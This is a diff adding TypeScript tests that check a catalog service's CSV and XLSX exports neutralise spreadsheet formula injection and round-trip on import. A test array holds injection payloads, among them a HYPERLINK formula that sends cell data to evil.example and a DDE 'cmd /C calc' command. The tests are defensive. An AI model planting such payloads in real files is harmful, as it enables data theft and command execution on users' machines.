@@ -2,6 +2,12 @@
 // CSV and XLSX, edit, import into an adjustment (only the rows that differ become changes), per-row errors.
 import { Readable } from 'node:stream';
 import ExcelJS from 'exceljs';
+// exceljs's own zip reader, to see the XML a spreadsheet program reads.
+import JSZip from 'jszip';
+import { sampleEntryContent } from '../db/seed';
+import { entryRow, rowChange } from '../domain/catalog-sheet';
+import type { EntryContent } from '../domain/catalog';
+import { cellText, inertCell } from '../domain/spreadsheet';
 import type { Actor } from '../domain/types';
 import { expectProblem, startApi, type Api } from './api-helpers';
 import { eventually, startHarness, type Harness } from './helpers';
@@ -117,4 +123,90 @@ test('every row’s problems come back at once, naming the row, the column, the 
   expectProblem(await post(reviewer(), '/catalog/adjustments/import', importBody('csv', file)), 403);
   // The officer's one request is the import of the first test.
   expect((await get(officer(), '/requests?type=catalog_adjustment')).json().items).toHaveLength(1);
+});
+
+/** Text a spreadsheet program takes for a formula (OWASP's CSV injection), each as an approved entry's title. */
+const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
+/** An entry hostile in its other cells too, beside text that must come back as it is (a phone number, quotes, CRs, controls, OOXML's escapes). */
+const hostileContent = (): EntryContent => ({
+  ...sampleEntryContent("'=已是文本的标题"),
+  description: '第一行\r\n第二行 _x000D_ 与 _x005f_ 照原样,\u000b 控制符',
+  fields: [
+    { name: '=x', type: 'string', description: '-', identifies: null },
+    { name: 'phone', type: 'string', description: '+86 633 8888888', identifies: null },
+  ],
+  useConditions: '+86 633 8888888',
+  share: { attribute: 'CONDITIONAL', reasons: '@所有人', conditions: '=仅用于履职', basis: [] },
+});
+const formulaStart = /^[=+\-@\t\r]/;
+
+test('a cell that could start a formula goes out behind a quote and comes back as its text; any other text is left alone', () => {
+  for (const v of [...HOSTILE, '=1+1', "'=1+1", "''-1", '-5', '+8613800000000', '@']) {
+    expect(inertCell(v)).toBe(`'${v}`);
+    expect(cellText(inertCell(v))).toBe(v);
+  }
+  for (const v of ['日照市企业登记信息', '', "'引号开头", "''", 'a=b', ' =1', '\n=1']) {
+    expect(inertCell(v)).toBe(v);
+    expect(cellText(v)).toBe(v);
+  }
+  // A row of the sheet: every cell inert, and read back the entry it was.
+  const content = hostileContent();
+  const row = entryRow({ id: 'e-1', version: 3, content, shareStatus: 'published', openStatus: 'published' });
+  expect(Object.values(row).filter((v) => formulaStart.test(v))).toEqual([]);
+  expect(row).toMatchObject({ title: "''=已是文本的标题", fields: "'=x | string |  | -\nphone | string |  | +86 633 8888888", use_conditions: "'+86 633 8888888" });
+  expect(rowChange(row, 2)).toEqual({ change: { op: 'change', entryId: 'e-1', baseVersion: 3, entry: content, shareStatus: 'published', openStatus: 'published' } });
+  for (const title of HOSTILE) expect(rowChange(entryRow({ id: 'e-2', version: 1, content: { ...content, title }, shareStatus: 'published', openStatus: 'published' }), 2)).toMatchObject({ change: { entry: { title } } });
+});
+
+test('approved entries with hostile titles export as CSV and XLSX with no cell a formula, and import back as the catalog has them', async () => {
+  const officer: Actor = { sub: 'hostile-officer', org: h.city.agencies.resources, roles: ['agency_applicant'] };
+  const contents = [...HOSTILE.map((title) => ({ ...sampleEntryContent(title), description: title })), hostileContent()];
+  const submitted = await post(officer, '/catalog/adjustments', { ground: 'correction', justification: '表格导出的防护', changes: contents.map((entry) => ({ op: 'add', entry })) });
+  expect(`${submitted.statusCode} ${submitted.body.slice(0, 300)}`).toMatch(/^201 /);
+  const req = submitted.json();
+  const task = await eventually(async () => ((await get(reviewer(), '/tasks?kind=CATALOG_ADJUSTMENT_CITY_REVIEW')).json().items as { id: string; requestId: string }[]).find((t) => t.requestId === req.id));
+  expect((await post(reviewer(), `/tasks/${task.id}/complete`, { decision: 'APPROVE' })).json().status).toBe('approved');
+  const ids = contents.map((_, i) => `${req.id}-${i + 1}`);
+  expect((await get(officer, `/catalog/${ids[0]}`)).json().title).toBe(HOSTILE[0]);
+  const url = (format: string) => `/catalog/export?format=${format}&provider=${h.city.agencies.resources}`;
+
+  // CSV: the raw text holds each hostile title behind its quote, and no cell a spreadsheet reads starts a formula.
+  const csv = await get(officer, url('csv'));
+  expect(csv.body).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","'=HYPERLINK(""http://evil.example/?""&A1,""x"")",`);
+  expect(csv.body).toContain(`,'-2+3,'-2+3,`);
+  expect(csv.body).toContain(`,"'\r=1+1","'\r=1+1",`);
+  const rows = await csvRows(csv.body);
+  const col = (name: string) => rows[0].indexOf(name);
+  for (const [i, id] of ids.entries()) expect(rows.find((r) => r[col('id')] === id)?.[col('title')]).toBe(`'${contents[i].title}`);
+  expect(rows.flat().filter((c) => formulaStart.test(c))).toEqual([]);
+
+  // XLSX: every cell an inline string (none a formula), the hostile titles behind their quotes.
+  const xlsx = await get(officer, url('xlsx'));
+  const xml = await (await JSZip.loadAsync(xlsx.rawPayload)).file('xl/worksheets/sheet1.xml')!.async('string');
+  expect(xml).not.toMatch(/<f[ >]/);
+  expect(xml).toContain('<is><r><t>&apos;=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;x&quot;)</t></r></is>');
+  expect(xml).toContain('<is><r><t>&apos;_x000D_=1+1</t></r></is>');
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+  const ws = wb.worksheets[0];
+  const header = (ws.getRow(1).values as string[]).slice(1);
+  const cells: ExcelJS.Cell[] = [];
+  ws.eachRow((row, n) => n > 1 && row.eachCell({ includeEmpty: true }, (c) => cells.push(c)));
+  expect(cells.length).toBe(header.length * (ids.length + 1));
+  expect(cells.filter((c) => c.type !== ExcelJS.ValueType.RichText || formulaStart.test(c.text))).toEqual([]);
+  const titles: Record<string, string> = {};
+  ws.eachRow((row, n) => n > 1 && (titles[row.getCell(header.indexOf('id') + 1).text] = row.getCell(header.indexOf('title') + 1).text));
+  for (const [i, id] of ids.entries()) expect(titles[id]).toBe(`'${contents[i].title}`);
+
+  // Each file read back is the catalog exactly (a title's quote kept, a CR no line feed): no row is a change.
+  for (const [format, file] of [['csv', Buffer.from(csv.body)], ['xlsx', xlsx.rawPayload]] as const) {
+    expect(expectProblem(await post(officer, '/catalog/adjustments/import', importBody(format, file, { dryRun: true })), 400).detail).toMatch(/at least one change/);
+  }
+  // And as new entries (no id, no version), the import asks for each as it was.
+  const hostileRows = rows.filter((r) => ids.includes(r[col('id')]));
+  const asNew = Buffer.from(toCsv([rows[0], ...hostileRows.map((r) => r.map((c, j) => (j === col('id') || j === col('version') ? '' : c)))]));
+  const imported = await post(officer, '/catalog/adjustments/import', importBody('csv', asNew));
+  expect(`${imported.statusCode} ${imported.body.slice(0, 300)}`).toMatch(/^201 /);
+  const asked = (imported.json().payload.changes as { entry: EntryContent }[]).map((c) => c.entry);
+  for (const content of contents) expect(asked).toContainEqual(content);
 });
